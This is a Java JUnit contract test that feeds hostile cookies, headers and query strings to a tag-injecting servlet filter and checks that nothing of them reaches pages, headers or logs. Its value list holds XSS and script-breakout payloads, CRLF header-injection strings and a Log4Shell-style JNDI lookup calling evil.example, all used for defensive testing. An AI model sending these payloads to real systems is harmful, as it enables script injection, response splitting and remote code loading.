package io.github.tagtwin.contracts;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.InputStream;
import java.net.URI;
import java.net.URLEncoder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * What no honest browser sends, as far as a server lets it in: each page goes out as without the filter but for the key,
 * nothing of the request stands in it or in a header, and TagTwin neither fails nor writes more than a line of log.
 */
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
public abstract class HostileContract {
    private static final String PAGE = Applications.CONTEXT_PATH + "/product?id=ruby-100";
    /** Where Jetty's and Tomcat's error pages begin to tell who called whom. */
    private static final Pattern TRACE = Pattern.compile("<h3>Caused by:|<p><b>Exception</b></p>");

    private static final int BIG = 64 * 1024;

    private static final List<String> PLACES = List.of(
            "Cookie: tagtwin_click=",
            "Cookie: tagtwin_lot=",
            "Cookie: tagtwin_cid=",
            "Cookie: tagtwin_consent=",
            "Cookie: tagtwin_next_AAAAAAAAAAAAAAAAAAAAAA=",
            "Cookie: __lt__cid=",
            "Cookie: __lt__cid.c83939be=",
            "Cookie: ",
            "Referer: ",
            "Referer: https://shop.example/?",
            "User-Agent: ",
            "Forwarded: ",
            "Forwarded: for=",
            "Forwarded: for=1.1.1.1;host=",
            "X-Forwarded-For: ",
            "X-Forwarded-Host: ",
            "X-Forwarded-Proto: ",
            "X-Forwarded-Port: ",
            "X-Forwarded-Prefix: ",
            "Host: ",
            "Origin: ",
            "Accept: text/html,",
            "If-None-Match: ",
            "Sec-Purpose: ",
            "X-Requested-With: ");

    private static final List<String> VALUES = List.of(
            "\"'></script><script>alert(1)</script>",
            "'});alert(1);_lt('init',{deduplicationKey:'evil",
            "\"unclosed",
            "a\"b\\\"c\\",
            "a;b=c;;=;=d,,e",
            "a\tb\u0001c\u0007d",
            "\u0000",
            "a\rSet-Cookie: evil=1",
            "a\nSet-Cookie: evil=1",
            "%0d%0aSet-Cookie:%20evil=1",
            "${jndi:ldap://evil.example/a}${7*7}",
            "\u00ff\u00fe\u0080\u00c0\u00af",
            "茶".repeat(3),
            "[::1%0]:99999999",
            "for=\"[".repeat(200),
            ",".repeat(2000),
            "A".repeat(7000));

    private Applications shop;
    private URI filtered;
    private URI plain;
    private final OwnLog log = OwnLog.listen();

    /** A server, running, without an application, that takes 256 KB of headers. */
    protected abstract Container start(Path directory) throws Exception;

    @BeforeAll
    void open(@TempDir Path directory) throws Exception {
        Container with = start(directory.resolve("filtered"));
        Container without = start(directory.resolve("plain"));
        filtered = with.uri();
        plain = without.uri();
        shop = Applications.on(with, without);
        try (InputStream visitor = HostileContract.class.getResourceAsStream("tags/visitor.jsp")) {
            WarFile withFilter = WarFile.copy(WarFile.ofTheShop(), directory.resolve("with.war"))
                    .addFiles(Map.of("tags/visitor.jsp", visitor.readAllBytes()))
                    .parameters(Map.of(
                            "endpoint",
                            shop.line().uri().toString(),
                            "delay",
                            "0s",
                            "trusted-proxies",
                            "127.0.0.1",
                            "directory",
                            directory.resolve("queue").toString()));
            WarFile alone = WarFile.copy(WarFile.ofTheShop(), directory.resolve("without.war"))
                    .withoutParameter("access-token");
            shop.deploy(withFilter.path(), alone.path());
        }
        shop.filtered().get("");
        shop.plain().get("");
    }

    @AfterAll
    void close() {
        try (log) {
            shop.close();
        }
    }

    @TestFactory
    Stream<DynamicTest> letsNothingOfARequestIntoPageHeaderOrLog() {
        return PLACES.stream()
                .map(place -> DynamicTest.dynamicTest(place, () -> {
                    for (String value : VALUES) {
                        servesAsWithoutTheFilter(PAGE, place + value);
                    }
                    standsFast();
                }));
    }

    @TestFactory
    Stream<DynamicTest> letsNothingOfAnAddressIntoPageHeaderOrLog() {
        return VALUES.stream()
                .map(value -> DynamicTest.dynamicTest("value " + VALUES.indexOf(value), () -> {
                    String code = URLEncoder.encode(value, StandardCharsets.UTF_8);
                    for (String query : List.of(value, code, "x=" + code, "ldtag_cl=" + value, "ldtag_cl=" + code)) {
                        servesAsWithoutTheFilter(PAGE + "&" + query.replace(' ', '+'));
                    }
                    servesAsWithoutTheFilter(Applications.CONTEXT_PATH + "/" + code);
                    servesAsWithoutTheFilter(PAGE.replace("?", ";a=" + code + "?"));
                    standsFast();
                }));
    }

    @Test
    void readsACookieAmongThreeHundred() throws Exception {
        String many = IntStream.range(0, 300).mapToObj(at -> "c" + at + "=v").collect(Collectors.joining("; "));
        for (int time = 0; time < 12; time++) {
            servesAsWithoutTheFilter(PAGE, "Cookie: " + many + "; tagtwin_click=click");
        }

        standsFast();
    }

    @Test
    void readsNoEndOfCookiesAndQueries() throws Exception {
        String big = "A".repeat(BIG);
        for (int time = 0; time < 3; time++) {
            servesAsWithoutTheFilter(PAGE, "Cookie: tagtwin_click=" + big);
            servesAsWithoutTheFilter(PAGE, "Cookie: __lt__cid=" + big);
            servesAsWithoutTheFilter(PAGE, "Cookie: " + "a=b; ".repeat(BIG / 5));
            servesAsWithoutTheFilter(PAGE, "Cookie: " + ";".repeat(BIG));
            servesAsWithoutTheFilter(PAGE + "&" + big + "=" + big);
            servesAsWithoutTheFilter(PAGE + "&" + "%".repeat(BIG));
            servesAsWithoutTheFilter(PAGE, "X-Forwarded-For: " + "1.1.1.1,".repeat(BIG / 8));
            servesAsWithoutTheFilter(PAGE, "Forwarded: " + "for=\"\\".repeat(BIG / 6));
            servesAsWithoutTheFilter(PAGE, "User-Agent: " + big, "Referer: https://a.example/?" + big);
        }

        standsFast();
    }

    @Test
    void remembersNoClickThatLineCouldntHaveGiven() throws Exception {
        Answer page = RawClient.get(filtered, PAGE + "&ldtag_cl=" + "A".repeat(BIG));

        assertThat(page.headers("Set-Cookie"))
                .noneMatch(cookie -> cookie.startsWith("tagtwin_click=") && cookie.length() > 1000);
    }

    static List<String> values() {
        return VALUES;
    }

    @ParameterizedTest
    @MethodSource("values")
    void printsNothingOfWhatAShopPassesOn(String value) throws Exception {
        String order = "T-" + UUID.randomUUID();
        for (String name : List.of("email", "phone", "country", "member", "currency", "word", "order")) {
            String parameter = name + "=" + URLEncoder.encode(value, StandardCharsets.UTF_8);
            // The first of two parameters of a name is the one that the page reads.
            Answer page = shop.filtered().get("tags/visitor.jsp?" + parameter + "&order=" + order);

            assertThat(page.status()).isEqualTo(200);
            assertThat(page.keys()).hasSize(1);
            assertThat(page.text()).endsWith("<p>The end</p></body></html>\n").doesNotContain("alert(1)", "jndi");
            assertThat(page.text().split("<script", -1)).hasSizeLessThanOrEqualTo(3);
        }
        standsFast();
    }

    // Whatever the server itself makes of it, the filter makes no more of it.
    private void servesAsWithoutTheFilter(String target, String... headers) throws Exception {
        Answer with = RawClient.get(filtered, target, headers);
        Answer without = RawClient.get(plain, target, headers);
        Oracle oracle = Oracle.of(with.withoutClickCookie(), without);
        if (without.status() == RawClient.HEADLESS) {
            assertThat(with.octetsWithoutInsertions()).isEqualTo(without.octetsWithoutInsertions());
        } else if (without.status() == 200 && without.octetsWithoutInsertions().contains("_lt('init'")) {
            oracle.findsThePageEdited(1);
        } else if (TRACE.matcher(without.octetsWithoutInsertions()).find()) {
            assertThat(with.status()).isEqualTo(without.status());
            assertThat(beforeTrace(with)).isEqualTo(beforeTrace(without));
        } else {
            oracle.findsThePageUntouched();
        }
        with.keys().forEach(key -> assertThat(key).hasSize(22));
    }

    // The filter is among those who called.
    private static String beforeTrace(Answer page) {
        return TRACE.split(page.octetsWithoutInsertions(), 2)[0];
    }

    // A failure of ours would leave the page alone, and ten would leave all pages alone.
    private void standsFast() throws Exception {
        assertThat(shop.filtered().get("product?id=ruby-100").keys()).hasSize(1);
        assertThat(shop.operator().counters().keySet()).noneMatch(figure -> figure.startsWith("failed."));
        assertThat(log.messages()).allSatisfy(message -> assertThat(message)
                .doesNotContainPattern("\\p{Cntrl}")
                .hasSizeLessThan(1500)
                .doesNotContain("<script>", "evil=1\r", "AAAAAAAAAAAAAAAA".repeat(20)));
    }
}
